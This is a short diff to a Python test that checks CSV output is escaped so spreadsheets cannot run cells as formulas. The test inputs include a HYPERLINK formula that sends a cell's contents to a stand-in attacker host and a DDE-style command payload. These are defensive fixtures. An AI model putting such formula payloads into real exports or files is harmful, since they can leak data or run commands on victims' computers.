@@ -209,6 +209,8 @@ def test_file_names_that_are_not_utf8_are_classified_under_printable_ids(
 )
 def test_csv_output_never_holds_a_cell_a_spreadsheet_runs(monkeypatch, capsys, ckpt, tmp_path):
     ids = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+cmd|calc!A0", "-2+3", "@SUM(A1)"]
+    # Quoted too, so that one leading ' stripped gives every id back: it and "=X" were one cell.
+    ids += ["'=X", "'quoted"]
     numbers = ["-1", "+0.5", "-2e3"]  # values, not formulas: kept as they are
     table = tmp_path / "in.jsonl"
     rows = [*ids, *numbers]
